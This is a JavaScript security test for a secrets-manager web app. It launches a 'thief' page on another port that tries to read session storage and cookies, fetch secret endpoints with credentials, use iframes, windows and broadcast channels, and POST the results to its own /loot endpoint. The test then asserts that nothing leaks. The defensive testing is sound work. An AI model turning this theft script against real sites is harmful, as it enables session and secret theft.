// Another account listens on another port of the page's host, and makes the browser visit it.

import assert from "node:assert/strict";
import { launch, open, steps } from "./browser.mjs";
import { bytes, listen, serve } from "./server.mjs";

const server = await serve();
const browser = await launch();
const context = await browser.newContext();
const { page } = await open(context);
const step = steps(page);

await page.goto(server.link);
await page.getByRole("row").filter({ hasText: "STORED_KEY" }).waitFor();
const kept = await page.evaluate(() => JSON.stringify(sessionStorage));
const [, bearer, key] = kept.match(/"([\w-]{43})\.([\w-]{43})"/);

/** What the thief's page tries. It knows the path of the page, which nobody tells it. */
const loot = `
  const tell = (what, found) => fetch("/loot", { method: "POST", body: what + ": " + found });
  const trying = async (what, work) => {
    try { await tell(what, await work()); } catch (error) { await tell(what, "nothing, " + error.name); }
  };
  const page = "${server.page}";
  // Cookies are for a path of a host, whatever its port.
  await fetch("${server.page.pathname}api/x");
  await fetch("${server.page.pathname}api/session/x");
  document.domain = document.domain;
  await trying("storage", () => JSON.stringify(sessionStorage) + JSON.stringify(localStorage) + document.cookie + name);
  await trying("list", async () => (await fetch(page + "api/secrets", { credentials: "include" })).text());
  await trying("blind list", async () => (await fetch(page + "api/secrets", { mode: "no-cors", credentials: "include" })).text());
  await trying("events", async () => (await fetch(page + "api/events", { credentials: "include" })).text());
  await trying("export", async () =>
    (await fetch(page + "api/export", { method: "POST", mode: "no-cors", credentials: "include", body: '{"label":"JSON"}' })).text());
  await trying("script", () => new Promise((done) => {
    const script = document.createElement("script");
    script.onload = script.onerror = ({ type }) => done(type);
    script.src = page + "api/secrets";
    document.head.append(script);
  }));
  await trying("frame", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { done(frame.contentDocument.documentElement.outerHTML + JSON.stringify(frame.contentWindow.sessionStorage)); }
      catch (error) { done("nothing, " + error.name); }
    };
    frame.src = page;
    document.body.append(frame);
  }));
  await trying("window", async () => {
    const opened = window.open(page, "_blank");
    await new Promise((done) => setTimeout(done, 1000));
    return opened.document.documentElement.outerHTML + JSON.stringify(opened.sessionStorage);
  });
  await trying("channel", () => new Promise((done) => {
    const channel = new BroadcastChannel("strongroom");
    channel.onmessage = ({ data }) => done(JSON.stringify(data));
    channel.postMessage("session?");
    setTimeout(() => done("nothing"), 500);
  }));
  await tell("end", "");
`;
const thief = await listen(0, (request, response) => {
  response.setHeader("Content-Type", "text/html");
  if (request.url === "/go") response.end(`<body><script type="module">${loot}</script>`);
  else response.end("<p>nothing");
});

await step("a page that navigates to another port sends nothing of the session there", async () => {
  const { page: visitor } = await open(context);
  // Any page of the web does this, without a click.
  await visitor.setContent("<p>anything");
  await visitor.evaluate((to) => (location = to), `${thief.origin}/go`);
  for (let tries = 0; tries < 100 && !bytes(thief.got).includes("end: "); tries += 1) await visitor.waitForTimeout(200);
  const loot = bytes(thief.got);
  assert.match(loot, /end: /, "it has tried all");
  for (const { headers } of thief.got) {
    assert.equal(headers.cookie, undefined);
    assert.equal(headers.authorization, undefined);
  }
  for (const secret of [bearer, key, server.token, "STORED_KEY", "stored-value", "Tracker"]) {
    assert.ok(!loot.includes(secret), `the thief has ${secret}`);
  }
});

await step("what it got opens nothing", async () => {
  const { host, origin } = server.page;
  const stolen = thief.got.flatMap(({ headers }) => Object.entries(headers));
  const attempts = [
    {},
    Object.fromEntries(stolen.filter(([name]) => ["cookie", "authorization"].includes(name))),
    { cookie: `strongroom=${bearer}; session=${bearer}.${key}` },
  ];
  for (const stolen of attempts) {
    for (const [path, method] of [["api/secrets", "GET"], ["api/events", "GET"], ["api/secrets/reveal", "POST"]]) {
      const answer = await fetch(`${server.page}${path}`, {
        method,
        headers: { host, origin, ...stolen },
        body: method === "POST" ? '{"name":"STORED_KEY"}' : undefined,
      });
      assert.equal(answer.status, 401);
      assert.ok(!(await answer.text()).includes("stored-value"));
    }
  }
});

await step("the owner's page goes on", async () => {
  await page.bringToFront();
  await page.reload();
  await page.getByRole("row").filter({ hasText: "STORED_KEY" }).waitFor();
});

thief.close();
await browser.close();
await server.stop();
